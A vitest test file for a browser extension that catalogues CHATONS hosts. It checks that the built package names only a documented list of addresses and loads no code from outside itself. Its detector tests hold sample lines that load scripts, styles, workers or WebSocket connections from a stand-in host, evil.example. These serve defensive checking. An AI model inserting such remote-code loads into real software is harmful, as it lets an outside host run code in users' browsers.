import { describe, expect, test } from 'vitest';
import entries from '../../data/collective-entries.json';
import { addressesIn, waysIn } from './addresses-in-code';
import attributions from '../../data/attributions.json';
import publishers from '../../data/publishers.json';
import whereToGet from '../../data/where-to-get.json';
import { builtPackage, mirrors } from './built-package';

/** Every address that the code may name, and why it is no request of ours for code. */
const allowed: Record<string, string> = {
  'http://*/*': 'a match pattern: the links whose menu has our entry',
  'http://www.w3.org/1998/Math/MathML': 'a name for a kind of XML, which Preact compares with; never fetched',
  'http://www.w3.org/1999/xhtml': 'the same',
  'http://www.w3.org/2000/svg': 'the same',
  'https://': 'compared with how an address starts, or set before a host of the catalogue that is offered to try',
  'https://*.': 'compared with how a match pattern starts',
  'https://*/*': 'a match pattern: the links whose menu has our entry',
  'https://[^': 'compared with how an address starts, in the expression that finds links in what a host wrote',
  'https://${…}/*': 'a match pattern for a host that the person ticked',
  'https://f-droid.org/packages/${…}/': 'the page of a software’s app: a link, which the person may click',
  'https://framagit.org/chatons/chatonsinfos': 'the format in which hosts publish: a link, which the person may click',
  'https://www.chatons.org/charte': 'the source of the charter: a link, which the person may click',
  'https://www.chatons.org/search/by-service': 'the directory of the collective: a link, which the person may click',
  // The entries of hosts in that directory: links, as data/ has them.
  ...Object.fromEntries(Object.values(entries).map(({ url, source }) => [url, source])),
  // Sources that are addresses come along with them.
  ...Object.fromEntries(
    Object.values(entries).flatMap(({ source }) =>
      source.startsWith('https:') ? [[source, 'where an entry was seen']] : [],
    ),
  ),
  ...(publishers.newIssue && {
    [`${publishers.newIssue}?\${…}`]: 'where a report is filed: a link, on the click alone',
  }),
  ...(whereToGet.source && { [whereToGet.source]: 'our own code: a link, which the person may click' }),
  // What the data come from, and their licences, in the options.
  ...Object.fromEntries(
    attributions.flatMap(({ url, licenceUrl }) =>
      [url, licenceUrl ?? []]
        .flat()
        .map((address) => [address, 'a source or its licence: a link, which the person may click']),
    ),
  ),
};
describe.each(['chrome-mv3', 'firefox-mv3'] as const)('the code of %s', (target) => {
  const built = builtPackage(target);
  const code = built.files.filter((file) => /\.(js|html|css)$/.test(file));

  test('names the addresses that are explained here, and no other [S98]', () => {
    const named = new Set(code.flatMap((file) => addressesIn(built.read(file))));
    // Mirrors send data, which are checked against a signature.
    expect([...named].filter((address) => !mirrors.includes(address)).toSorted()).toEqual(
      Object.keys(allowed).toSorted(),
    );
  });

  test('brings in nothing but chunks of the package, each by its name [S99]', () => {
    expect(code.length).toBeGreaterThan(8);
    expect(code.flatMap((file) => waysIn(built.read(file)).map((way) => `${file}: ${way}`))).toEqual([]);
  });
});

describe('the two readers of code', () => {
  test.each([
    ['$.src=`https://evil.example/x.js`', 'https://evil.example/x.js'],
    ["fetch('wss://evil.example')", 'wss://evil.example'],
    ['import(`//evil.example/x.js`)', '//evil.example/x.js'],
    ['<script src=//evil.example/x.js>', '//evil.example/x.js'],
    ['url(//evil.example/x.css)', '//evil.example/x.css'],
    [String.raw`/^https:\/\/evil.example/`, 'https://evil.example/'],
    ['`https://${a.b(c)}.evil.example`', 'https://${…}.evil.example'],
    ['`https://evil.example/?${a({b:c})}`', 'https://evil.example/?${…}'],
  ])('find the address in %s', (text, address) => {
    expect(addressesIn(text)).toEqual([address]);
  });

  test.each([
    '$.src=e',
    'import(e)',
    'import(`https://evil.example/x.js`)',
    'import(`./${e}.js`)',
    'import"https://evil.example/x.js"',
    'export*from`//evil.example/x.js`',
    'importScripts(e)',
    'new Worker(e)',
    'new SharedWorker(`./a.js`)',
    'navigator.serviceWorker.register(e)',
    'document.createElement(`script`)',
    'document.createElementNS(n,"script")',
    '@import "a.css"',
    'background:url(`https://evil.example/a.png`)',
    '<script src="https://evil.example/x.js"></script>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<base href="https://evil.example/">',
  ])('see the way in: %s', (text) => {
    expect(waysIn(text).length).toBeGreaterThan(0);
  });

  test.each([
    'await import(`./town-picker-C4dR_ljO.js`)',
    'import{a}from"./common.js"',
    'e.src===t',
    '<script type="module" crossorigin src="/chunks/popup.js"></script>',
    'url(#mask)',
  ])('let pass what is ours: %s', (text) => {
    expect(waysIn(text)).toEqual([]);
    expect(addressesIn(text)).toEqual([]);
  });
});
